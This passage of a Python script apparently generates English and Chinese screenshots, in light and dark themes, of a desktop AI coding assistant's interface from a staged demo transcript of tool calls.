    from echo_desk.agent.envelope import Envelope
    from echo_desk.agent.status import ToolStatus
    from echo_desk.tools.results import ErrorKind, FileChange, FileChangeKind
    from echo_desk.ui.core import theme

    settings = SettingsStore.in_dir(HOME / "look-config")
    runtime = Runtime.create(settings_store=settings)
    services = Services(settings=settings, backend=CatalogBackend(settings, runtime), runtime=runtime,
                        conversations=ConversationStore(HOME / "look.sqlite3"), providers_available=True)
    window = MainWindow()
    window.resize(1280, 1000)
    warm_up()
    window.attach(services)
    window.set_banner(lambda: "")
    show_first_frame(window)
    diff = "--- a/shop.py\n+++ b/shop.py\n@@ -9,4 +9,2 @@\n-    result = 0\n-    for item in items:\n+    return sum(...)\n"
    #: What the tools answered, in the picture's language (a demo: written here, not run).
    results = {"en": ("22 lines", "edited", "the person denied this call"),
               "zh_CN": ("共 22 行", "已编辑", "你拒绝了此调用")}
    for language in ("en", "zh_CN"):
        i18n_qt.apply_language(language)
        workspace = HOME / ("look-project" if language == "en" else "示例项目")
        workspace.mkdir(exist_ok=True)
        window.set_workspace(str(workspace))  # never the folder the script was started in
        read, edited, denied = results[language]
        model = window.session.transcript
        model.clear()
        model.add_user(LOOK_QUESTION[language])
        model.add_tool_call("l1", "read_file", json.dumps({"path": "shop.py"}))
        model.set_tool_result("l1", Envelope(ok=True, tool="read_file", call_id="l1", content=read))
        model.add_tool_call("l2", "run_command", json.dumps({"command": "pytest -q tests/test_shop.py"}))
        model.set_tool_status("l2", ToolStatus.RUNNING)
        model.append_output("l2", "..F.\n1 failed, 3 passed in 0.12s\n")
        model.add_tool_call("l3", "fetch_url", json.dumps({"url": "https://pypi.org/pypi/decimal/json"}))
        model.set_tool_result("l3", Envelope(ok=False, tool="fetch_url", call_id="l3", error="HTTP 404",
                                             error_kind=ErrorKind.BUSINESS))
        model.add_tool_call("l4", "edit_file", json.dumps({"path": "shop.py"}))
        model.set_tool_result("l4", Envelope(ok=True, tool="edit_file", call_id="l4", content=edited, file_changes=(
            FileChange(path=str(workspace / "shop.py"), kind=FileChangeKind.MODIFY, before_sha256="a",
                       after_sha256="b", diff=diff),)))
        model.add_tool_call("l5", "search_files", json.dumps({"pattern": "total("}))
        model.set_tool_result("l5", Envelope(ok=False, tool="search_files", call_id="l5",
                                             error=denied, error_kind=ErrorKind.REJECTED))
        model.append_text(LOOK_ANSWER[language])
        model.end_assistant()
        suffix = "" if language == "en" else "_zh"
        for variant in ("light", "dark"):
            theme.apply_theme(variant)
            await asyncio.sleep(0.3)
            window.transcript.scrollToBottom()
            await asyncio.sleep(0.2)
            save(window, f"chat_{variant}{suffix}.png")
    theme.apply_theme("light")
    i18n_qt.apply_language("en")
    window.close()
    runtime.close()


def main() -> None:
    if "--look-only" in sys.argv:
        run_shots(OUT, shoot_look)
    elif "--permissions-only" in sys.argv:
        run_shots(OUT, shoot_permissions_only)
    elif "--local-model-only" in sys.argv:
        run_shots(OUT, shoot_local_model)
    else:
        local = (shoot_local_model,) if "--with-local-model" in sys.argv else ()
        run_shots(OUT, lambda: shoot_pass("en"), lambda: shoot_pass("zh_CN"), *local)


async def shoot_pass(language: str) -> None:
    PASS["language"] = language
    try:
        await shoot(_application())
    finally:
        PASS["language"] = None


def _application() -> QApplication:
    app = QApplication.instance()
    assert isinstance(app, QApplication)
    return app


if __name__ == "__main__":
    main()
